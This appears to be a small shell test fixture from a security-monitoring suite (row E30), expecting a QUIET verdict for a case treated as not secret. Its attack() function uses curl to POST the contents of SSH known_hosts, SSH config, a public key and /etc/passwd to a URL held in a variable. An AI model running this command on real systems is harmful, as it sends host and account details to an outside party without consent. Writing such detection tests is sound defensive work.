# SPDX-License-Identifier: Apache-2.0
TITLE="known_hosts, config, public keys and passwd are no secrets"
ROW="E30"
VERDICT=QUIET
attack() {
	curl -sf -m 10 -d "$(cat "$HOME/.ssh/known_hosts" "$HOME/.ssh/config" "$HOME/.ssh/id_ed25519.pub" /etc/passwd)" "$URL/"
}
